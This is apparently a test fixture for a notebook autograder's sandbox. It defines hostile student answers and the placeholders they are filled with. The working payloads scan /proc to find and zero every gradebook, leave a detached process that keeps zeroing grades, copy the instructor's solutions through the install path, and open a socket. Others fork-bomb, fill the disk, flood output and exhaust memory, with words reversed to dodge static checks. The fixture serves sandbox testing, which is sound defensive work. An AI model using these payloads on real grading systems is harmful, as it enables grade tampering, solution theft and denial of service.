"""Hostile answers to predict_shapes: attacks on the grader from inside a notebook.

Every attack is written to work when the kernel runs as the grader, beside
the grader's files and processes (it finds them through /proc, the package's
install path, or the paths the test hands it), and its words are spelt
backwards so that no static check of the answer's text stops it before it
runs: the sandbox has to. tests/grader/test_sandbox.py grades them with the real
command in one run beside honest students and checks that nothing outside
the hostile students' own results changed.

Placeholders: ``{marker}`` (a string the test looks for in every process's
command line afterwards), ``{course}`` (the course folder), ``{scratch}``
(the folder of the scratch courses), ``{port}`` (a TCP port the test listens
on), ``{answer}`` (the grade id of the answer cell the attack replaces).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    source: str
    loses: bool  # True: the answer's tests lose their points; False: it answers correctly too
    words: tuple[str, ...]  # one of these must appear in the student's reasons


# Every gradebook the kernel can find: at the course's and the scratch
# courses' paths, and through /proc (working folders, command lines, open
# files of every process); each is zeroed, and given full manual scores.
_FIND_AND_ZERO = """\
import glob, os, re, sqlite3

DB = "bd.koobedarg"[::-1]

def gradebooks():
    found = set(glob.glob("{course}/" + DB))
    found |= set(glob.glob("{scratch}/**/" + DB, recursive=True))
    found |= set(glob.glob("/tmp/*/" + DB))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found.add(os.path.join(os.readlink(f"/proc/{{pid}}/cwd"), DB))
            args = open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace")
            found.update(re.findall(":///([^\\x00]+)", args))
            for fd in os.listdir(f"/proc/{{pid}}/fd"):
                path = os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
                if path.endswith(".db"):
                    found.add(path)
        except OSError:
            pass
    return sorted(p for p in found if os.path.isfile(p))

def zero_all():
    done = []
    for path in gradebooks():
        with sqlite3.connect(path) as db:
            db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
            db.execute("CREATE TABLE IF NOT EXISTS hostile_was_here (x)")
        done.append(path)
    return done
"""

GRADEBOOKS = (
    _FIND_AND_ZERO
    + """
written = zero_all()
assert written, "no gradebook reachable from the kernel"
"""
)

# A process in a new session, with an empty environment, that outlives the
# notebook and keeps zeroing every gradebook it finds (the students graded
# beside and after this one).
DETACHED = """\
import subprocess, sys

with open("/tmp/.zero.py", "w") as handle:
    handle.write({zero!r} + "\\nimport time\\nwhile True:\\n    zero_all()\\n    time.sleep(0.5)\\n")
subprocess.Popen(
    [sys.executable, "/tmp/.zero.py", "{marker}"],
    start_new_session=True, env={{}}, stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
"""

# The instructor's source notebook, found through the editable install's
# finder (which names the repository clone) or the course folder; the
# answer cell is copied from it and imported.
SOLUTIONS = """\
import glob, json, pathlib, re, sys

places = ["{course}"]
for finder in glob.glob(sys.prefix + "/lib/python*/site-packages/__editable__*finder.py"):
    places += [str(pathlib.Path(p).parent) for p in re.findall(r": '([^']+)'", open(finder).read())]
found = [p for place in places for p in glob.glob(place + "/snoitulos"[::-1] + "/*/*.ipynb")]
assert found, f"nothing found at {{places}}"
for path in found:
    for cell in json.loads(open(path).read())["cells"]:
        if cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "{answer}":
            pathlib.Path("stolen.py").write_text("".join(cell["source"]))
from stolen import *
"""

NETWORK = """\
import socket

with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
    connection.sendall(b"{marker}")
"""

FORK_BOMB = """\
import os, time

while True:
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
"""

# Fills the working folder until the disk is full, and frees it again for
# the cells after it.
FILLS_DISK = """\
import os

try:
    with open("filler.bin", "wb") as handle:
        while True:
            handle.write(b"x" * 2**20)
            handle.flush()
finally:
    os.remove("filler.bin")
"""

FLOODS_OUTPUT = """\
for _ in range(20_000):
    print("all work and no play " * 50)
"""

# Children each far under the per-process caps (6 GiB of address space) that
# together hold 7.5 GiB, more than the whole sandbox's budget (Limits.sandbox_memory_mb,
# 6.5 GiB): only a budget for the sandbox as a whole (a cgroup) stops them.
FORKS_AND_ALLOCATES = """\
import os, time

children = []
for _ in range(6):
    pid = os.fork()
    if pid == 0:
        block = b"x" * (1280 * 2**20)
        time.sleep(3)
        os._exit(0)
    children.append(pid)
killed = [pid for pid in children if os.waitpid(pid, 0)[1] != 0]
assert not killed, f"{{len(killed)}} children were killed"
"""

NO_NETWORK = ("the sandbox has no network",)

# Student -> its attacks, by position among the assignment's answer cells (a
# fork bomb goes last: its processes live until the notebook ends).
HOSTILE = {
    "h_files": [
        (0, Attack("gradebook via /proc", GRADEBOOKS, True, ("no gradebook reachable",))),
        (1, Attack("solutions via the install path", SOLUTIONS, True, ("nothing found at",))),
        (2, Attack("network", NETWORK, True, NO_NETWORK)),
    ],
    "h_processes": [
        (0, Attack("detached process", DETACHED, False, ("still running when it ended",))),
        (-1, Attack("fork bomb", FORK_BOMB, True, ("processes and threads",))),
    ],
    "h_resources": [
        (0, Attack("fills the disk", FILLS_DISK, True, ("MB of disk were filled",))),
        (1, Attack("floods the output", FLOODS_OUTPUT, False, ("the output was cut",))),
    ],
    "h_memory": [
        (0, Attack("forks and allocates", FORKS_AND_ALLOCATES, True, ("whole memory budget",))),
    ],
}
# Students whose attack only a budget for the whole sandbox stops: graded only where
# the grader makes a cgroup per student (elsewhere they would take the machine's memory).
NEEDS_A_BUDGET = {"h_memory"}


def filled(attack: Attack, answer: str, correct: str, **places: object) -> str:
    """The attack's source for one answer cell, placeholders filled in.

    An attack that does not lose points is followed by the correct answer.
    """
    zero = _FIND_AND_ZERO.format(**places)
    source = attack.source.format(answer=answer, zero=zero, **places)
    return source if attack.loses else source + "\n" + correct
